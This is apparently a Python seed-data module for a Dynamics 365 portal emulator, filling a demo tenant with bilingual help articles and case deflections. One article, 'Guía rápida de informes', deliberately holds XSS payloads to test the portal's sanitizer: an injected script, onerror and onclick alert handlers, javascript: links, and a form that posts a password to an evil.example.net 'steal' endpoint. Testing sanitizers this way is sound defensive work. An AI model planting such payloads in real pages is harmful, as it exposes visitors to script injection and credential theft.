"""The demo tenant's knowledge base (issue 16): articles in Spanish and English about the demo's
products (VPN, Endpoint, directorio activo, informes). Translations share a root article; some are
internal, some drafts or expired, and one carries dangerous HTML to prove the portal's sanitizer."""

from __future__ import annotations

from datetime import datetime, timedelta
from uuid import UUID, uuid5

from d365portal.emulator.seed import (
    DEMO_ACCOUNT_ID,
    DEMO_COMPANY_LEVEL_ID,
    DEMO_CONTACT_ID,
    KB_DANGEROUS_ID,
    KB_DRAFT_VPN_ID,
    KB_INTERNAL_VPN_ID,
    KB_LOCALE_EN,
    KB_LOCALE_ES,
    KB_VPN_EN_ID,
    KB_VPN_ES_ID,
    SEED_NAMESPACE,
    Row,
)

PUBLISHED, DRAFT, EXPIRED = 3, 0, 4


def _id(name: str) -> UUID:
    return uuid5(SEED_NAMESPACE, f"kb:{name}")


def _article(
    article_id: UUID,
    number: str,
    title: str,
    content: str,
    locale: UUID,
    *,
    root: UUID | None = None,
    state: int = PUBLISHED,
    internal: bool = False,
    keywords: str = "",
    modified: str = "2026-09-15T14:00:00Z",
    description: str = "",
) -> Row:
    return {
        "knowledgearticleid": article_id, "articlepublicnumber": number, "title": title, "content": content,
        "description": description or title, "keywords": keywords, "statecode": state,
        "isinternal": internal, "islatestversion": True, "isrootarticle": False,
        "majorversionnumber": 1, "minorversionnumber": 0, "knowledgearticleviews": 0,
        "languagelocaleid@odata.bind": f"/languagelocales({locale})",
        "languagelocaleidlocaleid": 3082 if locale == KB_LOCALE_ES else 1033,
        "rootarticleid@odata.bind": f"/knowledgearticles({root or article_id})",
        "createdon": "2026-03-01T15:00:00Z", "modifiedon": modified, "publishon": modified,
    }  # fmt: skip


DANGEROUS_CONTENT = (
    "<h2>Informes en un minuto</h2>"
    "<p>Abra <strong>Informes</strong> y elija el periodo.</p>"
    "<script>document.body.innerHTML='pwned'</script>"
    '<img src="https://tracker.example.net/pixel.gif" alt="seguimiento">'
    '<img src="x" onerror="alert(1)">'
    '<iframe src="https://evil.example.net/"></iframe>'
    '<p><a href="javascript:alert(2)">Abrir el asistente</a></p>'
    '<form action="https://evil.example.net/steal"><input name="password"></form>'
    '<p style="background:url(javascript:alert(3))" onclick="alert(4)">Paso final: guarde el informe.</p>'
    '<p><a href="https://learn.microsoft.com/power-bi/">Documentación de Power BI</a></p>'
    "<table><tr><th>Campo</th><th>Valor</th></tr><tr><td>Periodo</td><td>Mensual</td></tr></table>"
    "<pre><code>Export-Report -Month 11</code></pre>"
)


def knowledge_rows() -> dict[str, list[Row]]:
    """The languages and the articles, by entity set."""
    locales = [
        {"languagelocaleid": KB_LOCALE_ES, "name": "Español (España)", "code": "es-ES", "localeid": 3082,
         "language": "Español"},
        {"languagelocaleid": KB_LOCALE_EN, "name": "English (United States)", "code": "en-US",
         "localeid": 1033, "language": "English"},
    ]  # fmt: skip
    es, en = KB_LOCALE_ES, KB_LOCALE_EN
    endpoint, ad, reports = _id("endpoint-es"), _id("ad-password-es"), _id("schedule-es")
    articles = [
        _article(KB_VPN_ES_ID, "KA-01001", "Cómo conectarse a la VPN corporativa",
                 "<p>Instale el cliente <strong>VPN</strong> desde el portal de software, abra la "
                 "aplicación y escriba su usuario del directorio activo.</p><ol><li>Abra el cliente.</li>"
                 "<li>Elija el servidor <em>vpn.inovait.co</em>.</li><li>Inicie sesión.</li></ol>", es,
                 keywords="vpn acceso remoto conexión", description="Conectarse a la VPN desde casa"),
        _article(_id("vpn-drops-es"), "KA-01002", "La VPN se desconecta cada pocos minutos",
                 "<p>Si la VPN se corta, actualice el cliente y desactive el ahorro de energía de la tarjeta "
                 "de red.</p>", es, keywords="vpn desconexión corte"),
        _article(endpoint, "KA-01003", "Instalar el agente de Endpoint en un equipo nuevo",
                 "<p>Descargue el instalador del agente de <strong>Endpoint</strong> y ejecútelo como "
                 "administrador. El equipo aparece en la consola en 15 minutos.</p>", es,
                 keywords="endpoint antivirus agente instalación"),
        _article(_id("endpoint-report-es"), "KA-01004", "Equipos sin Endpoint en el reporte semanal",
                 "<p>Un equipo falta en el reporte cuando su agente de Endpoint no se comunica hace más de 7 "
                 "días. Reinstale el agente y espere la siguiente sincronización.</p>", es,
                 keywords="endpoint reporte equipos faltantes"),
        _article(ad, "KA-01005", "Restablecer la contraseña del directorio activo",
                 "<p>Use la página de autoservicio para restablecer su contraseña del <strong>directorio "
                 "activo</strong>; necesita su teléfono registrado.</p>", es,
                 keywords="directorio activo contraseña restablecer"),
        _article(_id("ad-unlock-es"), "KA-01006", "Desbloquear una cuenta del directorio activo",
                 "<p>Tras cinco intentos fallidos la cuenta se bloquea 30 minutos.</p>", es,
                 keywords="directorio activo bloqueo cuenta"),
        _article(reports, "KA-01007", "Programar el envío automático de informes",
                 "<p>En <em>Informes</em>, elija <strong>Programar</strong> y la frecuencia.</p>", es,
                 keywords="informes programar envío"),
        _article(_id("report-excel-es"), "KA-01008", "Exportar un informe a Excel",
                 "<p>Abra el informe y elija <strong>Exportar &gt; Excel</strong>.</p>", es,
                 keywords="informes excel exportar"),
        _article(_id("printer-es"), "KA-01009", "Impresora de facturación sin conexión",
                 "<p>Compruebe el cable de red y reinicie la cola de impresión.</p>", es,
                 keywords="impresora facturación conexión"),
        _article(KB_INTERNAL_VPN_ID, "KA-01010", "VPN: reiniciar el concentrador (interno)",
                 "<p>Procedimiento interno del equipo de redes.</p>", es, internal=True,
                 keywords="vpn concentrador interno"),
        _article(KB_DRAFT_VPN_ID, "KA-01011", "VPN con doble factor (borrador)",
                 "<p>Borrador en revisión.</p>", es, state=DRAFT, keywords="vpn doble factor"),
        _article(KB_DANGEROUS_ID, "KA-01012", "Guía rápida de informes", DANGEROUS_CONTENT, es,
                 keywords="informes guía rápida"),
        _article(_id("vpn-win7-es"), "KA-01013", "Configurar la VPN en Windows 7",
                 "<p>Windows 7 ya no tiene soporte.</p>", es, state=EXPIRED, keywords="vpn windows"),
        _article(KB_VPN_EN_ID, "KA-01001", "Connect to the corporate VPN",
                 "<p>Install the <strong>VPN</strong> client from the software portal, open it and type your "
                 "Active Directory username.</p>", en, root=KB_VPN_ES_ID,
                 keywords="vpn remote access connection", description="Connect to the VPN from home"),
        _article(_id("endpoint-en"), "KA-01003", "Install the Endpoint agent on a new computer",
                 "<p>Download the <strong>Endpoint</strong> agent installer and run it as an administrator."
                 "</p>", en, root=endpoint, keywords="endpoint antivirus agent install"),
        _article(_id("ad-password-en"), "KA-01005", "Reset your Active Directory password",
                 "<p>Use the self-service page to reset your <strong>Active Directory</strong> password.</p>",
                 en, root=ad, keywords="active directory password reset"),
        _article(_id("schedule-en"), "KA-01007", "Schedule automatic report delivery",
                 "<p>In <em>Reports</em>, choose <strong>Schedule</strong> and how often.</p>", en,
                 root=reports, keywords="reports schedule delivery"),
        _article(_id("vpn-internal-en"), "KA-01010", "VPN concentrator restart (internal)",
                 "<p>Network team only.</p>", en, root=KB_INTERNAL_VPN_ID, internal=True,
                 keywords="vpn concentrator internal"),
        _article(_id("mobile-en"), "KA-02001", "Enrol a mobile device for company mail",
                 "<p>Install the management app and sign in with your company account; VPN profiles are "
                 "added for you.</p>", en, keywords="mobile enrol mail vpn"),
        _article(_id("reports-slow-es"), "KA-01014", "Los informes tardan en cargar",
                 "<p>Reduzca el periodo del informe o use los filtros guardados.</p>", es,
                 keywords="informes lento carga", modified="2026-11-20T16:30:00Z"),
    ]  # fmt: skip
    return {"languagelocales": locales, "knowledgearticles": articles}


def deflection_rows(now: datetime) -> dict[str, list[Row]]:
    """The last days' case deflections: Lorena read the VPN article instead of opening a case; Julián
    read the Excel export article and opened his case anyway (a resolved one, two days ago)."""
    def ago(days: int) -> str:
        return (now - timedelta(days=days)).strftime("%Y-%m-%dT%H:%M:%SZ")

    deflections = [
        {"adx_casedeflectionid": _id("deflection:vpn"), "adx_name": "Cómo conectarse a la VPN corporativa",
         "adx_casetitle": "No me conecto a la VPN",
         "adx_contact@odata.bind": f"/contacts({DEMO_CONTACT_ID})",
         "adx_knowledgearticle@odata.bind": f"/knowledgearticles({KB_VPN_ES_ID})", "createdon": ago(5)},
        {"adx_casedeflectionid": _id("deflection:excel"), "adx_name": "Exportar un informe a Excel",
         "adx_casetitle": "Exportar informe",
         "adx_contact@odata.bind": f"/contacts({DEMO_COMPANY_LEVEL_ID})",
         "adx_knowledgearticle@odata.bind": f"/knowledgearticles({_id('report-excel-es')})",
         "createdon": ago(3)},
    ]  # fmt: skip
    case = {
        "incidentid": _id("case:excel-anyway"), "ticketnumber": "CAS-02455-EXCEL1",
        "title": "Exportar informe", "description": "El botón de exportar no aparece.",
        "customerid_account@odata.bind": f"/accounts({DEMO_ACCOUNT_ID})",
        "primarycontactid@odata.bind": f"/contacts({DEMO_COMPANY_LEVEL_ID})", "prioritycode": 2,
        "caseorigincode": 3, "casetypecode": 1, "statecode": 1, "statuscode": 5, "createdon": ago(2),
        "modifiedon": ago(1),
    }  # fmt: skip
    return {"adx_casedeflections": deflections, "incidents": [case]}
